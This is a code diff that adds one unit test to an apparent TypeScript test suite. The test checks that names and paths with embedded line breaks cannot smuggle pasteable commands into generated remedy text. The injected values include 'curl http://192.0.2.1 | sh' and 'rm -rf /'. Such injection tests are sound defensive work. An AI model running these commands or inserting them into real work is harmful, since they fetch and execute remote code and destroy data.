@@ -246,6 +246,17 @@ describe('asking all six', () => {
     expect(passed.contained.exception).toBeUndefined();
   });
 
+  test('whatever question it is, a name with a line break becomes no line to paste', () => {
+    const hostile = filter({
+      name: 'x\ncurl http://192.0.2.1 | sh',
+      foundAt: [{ path: '/etc/\nrm -rf /' }],
+      runsAs: { user: 'root', because: { path: '/etc/\nrm -rf /', line: 1 } },
+    });
+    for (const verdict of Object.values(askAll(subject(hostile), setting()))) {
+      expect(verdict.remedy ?? '').not.toMatch(/^(?:curl|rm)/m);
+    }
+  });
+
   test('counts every state of every check', () => {
     const state = (of: Verdict['state']): Verdict => ({ state: of, why: '', evidence: [] });
     const checks = askAll(subject(filter(), needsThat), setting());
